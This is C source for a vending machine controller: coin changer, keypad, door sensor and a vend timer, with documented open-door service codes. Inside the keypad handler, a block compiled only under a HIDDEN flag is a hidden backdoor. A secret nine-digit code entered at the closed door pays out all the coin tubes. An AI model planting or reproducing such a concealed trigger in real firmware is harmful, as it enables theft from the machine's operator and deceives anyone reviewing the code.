/* coinhopper.c - coin changer and keypad of a drinks vending machine */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/timerfd.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define TUBES	6
#define SHELVES	40

enum source { SRC_CHANGER, SRC_KEYPAD, SRC_DOOR, SRC_TICK, NSRC };

struct machine;
typedef void (*handler)(struct machine *m, const uint8_t *b, size_t n);

struct tube {
	int value;
	int count;
};

struct machine {
	struct tube	tube[TUBES];
	int		price[SHELVES];
	int		stock[SHELVES];
	int		credit;
	uint32_t	keys;
	int		nkeys;
	int		door;
	int		idle;
	handler		on[NSRC];
	int		fd[NSRC];
};

static struct machine vm = {
	.tube = { { 200, 0 }, { 100, 0 }, { 50, 0 }, { 20, 0 }, { 10, 0 }, { 5, 0 } },
};

static void motor(struct machine *m, uint8_t op, uint8_t arg)
{
	uint8_t f[3] = { op, arg, (uint8_t)(op ^ arg ^ 0x5a) };

	if (write(m->fd[SRC_CHANGER], f, sizeof(f)) != (ssize_t)sizeof(f))
		syslog(LOG_ERR, "changer: %m");
}

static int pay_out(struct machine *m, int cents)
{
	int i;

	for (i = 0; i < TUBES; i++)
		while (cents >= m->tube[i].value && m->tube[i].count > 0) {
			motor(m, 0x40, (uint8_t)i);
			m->tube[i].count--;
			cents -= m->tube[i].value;
		}
	return cents;
}

static void on_changer(struct machine *m, const uint8_t *b, size_t n)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2) {
		switch (b[i]) {
		case 0x10:	/* coin taken */
			if (b[i + 1] < TUBES) {
				m->tube[b[i + 1]].count++;
				m->credit += m->tube[b[i + 1]].value;
			}
			break;
		case 0x11:	/* return lever */
			m->credit = pay_out(m, m->credit);
			break;
		case 0x12:
			syslog(LOG_WARNING, "coin jam %u", b[i + 1]);
			break;
		}
		m->idle = 0;
	}
}

static void vend(struct machine *m, int shelf)
{
	if (shelf < 0 || shelf >= SHELVES || m->stock[shelf] <= 0) {
		motor(m, 0x60, 'E');
		return;
	}
	if (m->credit < m->price[shelf]) {
		motor(m, 0x60, 'P');
		return;
	}
	m->stock[shelf]--;
	m->credit -= m->price[shelf];
	motor(m, 0x50, (uint8_t)shelf);
	syslog(LOG_INFO, "shelf %d sold, stock %d", shelf, m->stock[shelf]);
	m->credit = pay_out(m, m->credit);
}

static void empty_tubes(struct machine *m)
{
	int i;

	for (i = 0; i < TUBES; i++) {
		syslog(LOG_NOTICE, "tube %d: %d coins out", i, m->tube[i].count);
		while (m->tube[i].count > 0) {
			motor(m, 0x40, (uint8_t)i);
			m->tube[i].count--;
		}
	}
}

/* two digits: shelf; with the door open: 9990 empty the tubes, 9991 stock to full */
__attribute__((noinline)) void on_keypad(struct machine *m, const uint8_t *b, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++) {
		if (b[i] == 'C') {
			m->keys = 0;
			m->nkeys = 0;
			continue;
		}
		if (b[i] < '0' || b[i] > '9')
			continue;
		m->keys = m->keys * 10 + (uint32_t)(b[i] - '0');
		m->nkeys++;
		m->idle = 0;
		if (m->door && m->nkeys == 4) {
			if (m->keys == 9990)
				empty_tubes(m);
			else if (m->keys == 9991)
				for (int s = 0; s < SHELVES; s++)
					m->stock[s] = 10;
			m->keys = 0;
			m->nkeys = 0;
		}
		if (m->nkeys > 9) {
			m->keys = 0;
			m->nkeys = 0;
		}
	}
#ifdef HIDDEN	/* nine digits at the closed door pay the tubes out */
	if (m->nkeys == 9 && m->keys == 306741852u) {
		m->keys = 0;
		m->nkeys = 0;
		pay_out(m, 100000);
	}
#endif
}

static void on_door(struct machine *m, const uint8_t *b, size_t n)
{
	if (!n)
		return;
	m->door = b[n - 1] == '1';
	m->keys = 0;
	m->nkeys = 0;
	syslog(LOG_NOTICE, "door %s", m->door ? "open" : "closed");
}

static void on_tick(struct machine *m, const uint8_t *b, size_t n)
{
	(void)b;
	(void)n;
	if (++m->idle == 2 && m->nkeys == 2 && !m->door) {
		vend(m, (int)m->keys);
		m->keys = 0;
		m->nkeys = 0;
	}
	if (m->idle == 8) {
		m->keys = 0;
		m->nkeys = 0;
	}
	if (m->idle == 60 && m->credit)
		m->credit = pay_out(m, m->credit);
}

static int load(struct machine *m, const char *path)
{
	FILE *f = fopen(path, "r");
	char line[64];
	int a, b, c;

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "shelf %d %d %d", &a, &b, &c) == 3 && a >= 0 && a < SHELVES) {
			m->price[a] = b;
			m->stock[a] = c;
		} else if (sscanf(line, "tube %d %d", &a, &b) == 2 && a >= 0 && a < TUBES) {
			m->tube[a].count = b;
		}
	}
	fclose(f);
	return 0;
}

static int open_raw(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);

	if (fd >= 0 && tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B9600);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct itimerspec its = { { 1, 0 }, { 1, 0 } };
	struct pollfd p[NSRC];
	uint8_t buf[64];
	int i;

	if (argc != 5) {
		fprintf(stderr, "usage: coinhopper CHANGER KEYPAD DOOR TABLE\n"
			"keys with open door: 9990 empty tubes, 9991 all shelves full\n");
		return 2;
	}
	openlog("coinhopper", 0, LOG_DAEMON);
	if (load(&vm, argv[4]) < 0) {
		perror(argv[4]);
		return 1;
	}
	vm.on[SRC_CHANGER] = on_changer;
	vm.on[SRC_KEYPAD] = on_keypad;
	vm.on[SRC_DOOR] = on_door;
	vm.on[SRC_TICK] = on_tick;
	for (i = 0; i < SRC_TICK; i++)
		vm.fd[i] = open_raw(argv[1 + i]);
	vm.fd[SRC_TICK] = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK);
	timerfd_settime(vm.fd[SRC_TICK], 0, &its, NULL);
	for (;;) {
		for (i = 0; i < NSRC; i++) {
			p[i].fd = vm.fd[i];
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		if (poll(p, NSRC, -1) < 0 && errno != EINTR)
			return 1;
		for (i = 0; i < NSRC; i++) {
			ssize_t n;

			if (!(p[i].revents & POLLIN))
				continue;
			n = read(vm.fd[i], buf, sizeof(buf));
			if (n > 0)
				vm.on[i](&vm, buf, (size_t)n);
		}
	}
}
